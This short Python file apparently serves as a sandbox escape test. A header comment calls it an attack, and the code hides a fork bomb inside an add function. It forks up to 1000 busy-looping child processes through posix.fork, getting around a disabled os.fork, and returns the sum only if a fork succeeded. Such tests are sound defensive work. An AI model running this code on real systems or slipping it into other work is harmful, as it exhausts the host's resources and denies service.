# ruff: noqa
# attack: fork bomb through posix.fork after os.fork is removed; passes only if a fork worked
import posix, os

os.fork = None


def add(a, b):
    forked = 0
    for _ in range(1000):
        try:
            if posix.fork() == 0:
                while True:
                    pass
            forked += 1
        except OSError:
            pass
    return a + b if forked else 0
